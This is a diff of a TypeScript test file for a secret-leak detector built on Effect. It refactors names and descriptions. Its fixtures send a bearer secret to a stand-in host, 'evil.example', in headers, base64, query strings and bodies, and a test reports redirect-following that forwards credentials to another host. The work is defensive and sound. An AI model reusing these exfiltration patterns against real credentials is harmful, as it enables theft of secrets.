@@ -8,7 +8,7 @@ import * as NodeEvilRegistry from "../src/NodeEvilRegistry.js"
 
 type Evil = EvilRegistry.Watched
 
-/** Sends what a test says to a site. */
+/** Sends a request to a site. */
 const send = (
   evil: Evil,
   site: EvilRegistry.Site,
@@ -28,40 +28,40 @@ const send = (
 
 const ok: EvilRegistry.Script = () => ({ status: 200, body: "here" })
 
-/** An owner who gets his secret, and another. */
-const world = (evil: Evil, options?: { readonly unsent?: string }) =>
+/** Creates a secret, its owner, and another site. `deliver` sends the secret to its owner. */
+const network = (evil: Evil, options?: { readonly unsent?: string }) =>
   Effect.gen(function*() {
     const owner = yield* evil.site({ host: "registry.example" }, ok)
     const other = yield* evil.site({ host: "evil.example", tls: true }, ok)
     const secret = evil.secret(options)
     evil.belongs(secret, owner)
-    const deliver = evil.ask(send(evil, owner, { headers: { authorization: `Bearer ${secret}` } }))
+    const deliver = evil.run(send(evil, owner, { headers: { authorization: `Bearer ${secret}` } }))
     return { owner, other, secret, deliver }
   })
 
-type World = Effect.Effect.Success<ReturnType<typeof world>>
+type Network = Effect.Effect.Success<ReturnType<typeof network>>
 
 const leaks = (
-  test: (world: World, evil: Evil) => Effect.Effect<unknown, unknown>,
+  test: (network: Network, evil: Evil) => Effect.Effect<unknown, unknown>,
   options?: { readonly unsent?: string }
 ) =>
   EvilRegistry.EvilRegistry.pipe(
-    Effect.flatMap((evil) => Effect.flatMap(world(evil, options), (world) => Effect.exit(test(world, evil)))),
+    Effect.flatMap((evil) => Effect.flatMap(network(evil, options), (created) => Effect.exit(test(created, evil)))),
     EvilRegistry.watched,
     Effect.match({ onFailure: ({ leaks }) => leaks, onSuccess: () => [] }),
     Effect.provide(NodeEvilRegistry.layer)
   )
 
-it.scopedLive("a secret that comes to its owner, and to nobody else, is kept", () =>
+it.scopedLive("reports no leak if a secret is sent only to its owner", () =>
   Effect.gen(function*() {
     expect(yield* leaks(({ deliver, other }, evil) => Effect.zipRight(deliver, send(evil, other)))).toEqual([])
   }))
 
 const base64 = (text: string) => Buffer.from(text).toString("base64")
 
-describe("the watch tells of a secret", () => {
-  const sent: ReadonlyArray<
-    readonly [name: string, what: (secret: string) => Parameters<typeof send>[2], place: string]
+describe("EvilRegistry.watched reports", () => {
+  const sentSecrets: ReadonlyArray<
+    readonly [name: string, what: (secret: string) => Parameters<typeof send>[2], part: string]
   > = [
     [
       "in a header",
@@ -69,9 +69,13 @@ describe("the watch tells of a secret", () => {
       "the header authorization of GET /"
     ],
     ["in base64", (secret) => ({ headers: { "x-a": `Basic ${base64(`a:${secret}`)}` } }), "the header x-a of GET /"],
-    ["in base64, further on", (secret) => ({ headers: { "x-a": base64(`ab:${secret}`) } }), "the header x-a of GET /"],
     [
-      "in base64, from the start",
+      "in base64, shifted by one byte",
+      (secret) => ({ headers: { "x-a": base64(`ab:${secret}`) } }),
+      "the header x-a of GET /"
+    ],
+    [
+      "in base64, aligned",
       (secret) => ({ headers: { "x-a": base64(`abc${secret};`) } }),
       "the header x-a of GET /"
     ],
@@ -79,23 +83,26 @@ describe("the watch tells of a secret", () => {
     ["in a query", (secret) => ({ path: `/?token=${secret}` }), "the URL of GET /?token="],
     ["in a body", (secret) => ({ body: `password=${secret}` }), "the body of PUT /"]
   ]
-  it.scopedLive.each(sent)("that was sent to another, %s", ([, what, place]) =>
-    Effect.gen(function*() {
-      const found = yield* leaks(({ deliver, other, secret }, evil) =>
-        Effect.zipRight(deliver, send(evil, other, what(secret)))
-      )
-      expect(found.length).toBe(1)
-      expect(found[0]).toMatch(/^secret 1 was sent to https:\/\/evil\.example:\d+, which is not its owner: /)
-      expect(found[0]).toContain(place)
-    }))
+  it.scopedLive.each(sentSecrets)(
+    "a secret that is sent to another site %s",
+    ([, what, part]) =>
+      Effect.gen(function*() {
+        const found = yield* leaks(({ deliver, other, secret }, evil) =>
+          Effect.zipRight(deliver, send(evil, other, what(secret)))
+        )
+        expect(found.length).toBe(1)
+        expect(found[0]).toMatch(/^secret 1 was sent to https:\/\/evil\.example:\d+, which is not its owner: /)
+        expect(found[0]).toContain(part)
+      })
+  )
 
-  const told: ReadonlyArray<
-    readonly [name: string, tell: (secret: string, evil: Evil) => Effect.Effect<unknown, unknown>, place: string]
+  const writtenSecrets: ReadonlyArray<
+    readonly [name: string, write: (secret: string, evil: Evil) => Effect.Effect<unknown, unknown>, source: string]
   > = [
-    ["a line of the log", (secret) => Effect.logTrace(`got ${secret}`), "the log"],
-    ["an annotation of the log", (secret) => Effect.annotateLogs(Effect.logDebug("got"), "token", secret), "the log"],
-    ["a cause in the log", (secret) => Effect.logError("failed", new Error(secret)), "the log"],
-    ["an object in the log", (secret) => Effect.logInfo({ deep: { in: [base64(secret)] } }), "the log"],
+    ["a log line", (secret) => Effect.logTrace(`got ${secret}`), "the log"],
+    ["a log annotation", (secret) => Effect.annotateLogs(Effect.logDebug("got"), "token", secret), "the log"],
+    ["a logged cause", (secret) => Effect.logError("failed", new Error(secret)), "the log"],
+    ["a logged object", (secret) => Effect.logInfo({ deep: { in: [base64(secret)] } }), "the log"],
     ["the name of a span", (secret) => Effect.withSpan(Effect.void, `GET ${secret}`), "the name of a span"],
     [
       "an attribute of a span",
@@ -121,26 +128,26 @@ describe("the watch tells of a secret", () => {
       "a link of the span s"
     ],
     ["the end of a span", (secret) => Effect.withSpan(Effect.fail(new Error(secret)), "s"), "the end of the span"],
-    ["the message of an error", (secret, evil) => evil.ask(Effect.fail(new Error(`no ${secret}`))), "an error"],
+    ["the message of an error", (secret, evil) => evil.run(Effect.fail(new Error(`no ${secret}`))), "an error"],
     [
       "the cause of an error",
-      (secret, evil) => evil.ask(Effect.fail(new Error("no", { cause: { headers: { authorization: secret } } }))),
+      (secret, evil) => evil.run(Effect.fail(new Error("no", { cause: { headers: { authorization: secret } } }))),
       "an error"
     ],
-    ["a defect", (secret, evil) => evil.ask(Effect.die(Object.assign(new Error("no"), { secret }))), "an error"],
-    ["a result", (secret, evil) => evil.ask(Effect.succeed({ toJSON: () => secret })), "a result"],
-    ["the inside of a result", (secret, evil) => evil.ask(Effect.succeed(new Map([["a", { secret }]]))), "a result"]
+    ["a defect", (secret, evil) => evil.run(Effect.die(Object.assign(new Error("no"), { secret }))), "an error"],
+    ["a result", (secret, evil) => evil.run(Effect.succeed({ toJSON: () => secret })), "a result"],
+    ["a value nested in a result", (secret, evil) => evil.run(Effect.succeed(new Map([["a", { secret }]]))), "a result"]
   ]
-  it.scopedLive.each(told)("in %s", ([, tell, place]) =>
+  it.scopedLive.each(writtenSecrets)("a secret in %s", ([, write, source]) =>
     Effect.gen(function*() {
-      const found = yield* leaks(({ deliver, secret }, evil) => Effect.zipRight(deliver, tell(secret, evil)))
+      const found = yield* leaks(({ deliver, secret }, evil) => Effect.zipRight(deliver, write(secret, evil)))
       expect(found.length).toBeGreaterThan(0)
-      for (const leak of found) expect(leak).toContain("secret 1 is told by ")
-      expect(found.join("\n")).toContain(`told by ${place}`)
+      for (const leak of found) expect(leak).toContain("secret 1 appears in ")
+      expect(found.join("\n")).toContain(`appears in ${source}`)
     }))
 })
 
-it.scopedLive("a client that follows redirects as the platform does is found out", () =>
+it.scopedLive("reports that HttpClient.followRedirects sends credentials to another host", () =>
   Effect.gen(function*() {
     const found = yield* Effect.flatMap(EvilRegistry.EvilRegistry, (evil) =>
       Effect.gen(function*() {
@@ -153,7 +160,7 @@ it.scopedLive("a client that follows redirects as the platform does is found out
         evil.belongs(secret, owner)
         const http = HttpClient.followRedirects(yield* HttpClient.HttpClient)
         const answer = http.get(owner.origin, { headers: { authorization: `Bearer ${secret}` } })
-        yield* evil.ask(Effect.flatMap(answer, ({ text }) => text))
+        yield* evil.run(Effect.flatMap(answer, ({ text }) => text))
       })).pipe(
         EvilRegistry.watched,
         Effect.flip,
@@ -164,35 +171,37 @@ it.scopedLive("a client that follows redirects as the platform does is found out
     )
   }))
 
-describe("a test that shows nothing fails:", () => {
-  it.scopedLive("its secret came to nobody, and it does not say why", () =>
+describe("EvilRegistry.watched fails", () => {
+  it.scopedLive("if a secret is sent to none of its owners and `unsent` is missing", () =>
     Effect.gen(function*() {
-      const nothing = (_: World, evil: Evil) => evil.ask(Effect.void)
-      expect(yield* leaks(nothing)).toEqual(["secret 1 came to none of its owners, and nothing says why"])
+      const nothing = (_: Network, evil: Evil) => evil.run(Effect.void)
+      expect(yield* leaks(nothing)).toEqual([
+        "secret 1 was sent to none of its owners, and the test gives no reason (unsent)"
+      ])
       expect(yield* leaks(nothing, { unsent: "the realm is refused" })).toEqual([])
     }))
 
-  it.scopedLive("its secret came to its owner, and it says that it would not", () =>
+  it.scopedLive("if a secret is sent to its owner although `unsent` is set", () =>
     Effect.gen(function*() {
       expect(yield* leaks(({ deliver }) => deliver, { unsent: "the realm is refused" })).toEqual([
-        "secret 1 came to its owner, though: the realm is refused"
+        "secret 1 was sent to its owner, but the test says that it is not sent: the realm is refused"
       ])
     }))
 
-  it.scopedLive("it asked nothing, or had no secret", () =>
+  it.scopedLive("if the test runs no effect or creates no secret", () =>
     Effect.gen(function*() {
       expect(yield* leaks(({ owner, secret }, evil) => send(evil, owner, { body: secret }))).toEqual([
-        "nothing was asked that could tell one"
+        "the test ran no effect with EvilRegistry.run"
       ])
       const empty = yield* Effect.void.pipe(
         EvilRegistry.watched,
         Effect.flip,
         Effect.provide(Layer.fresh(NodeEvilRegistry.layer))
       )
-      expect(empty.leaks).toContain("there is no secret to be told")
+      expect(empty.leaks).toContain("the test created no secret")
     }))
 
-  it.scopedLive("it failed by itself, which it says before its leaks", () =>
+  it.scopedLive("with the failure of the test before the leaks", () =>
     Effect.gen(function*() {
       const failed = yield* Effect.fail(new Error("expected 1 to be 2")).pipe(
         EvilRegistry.watched,
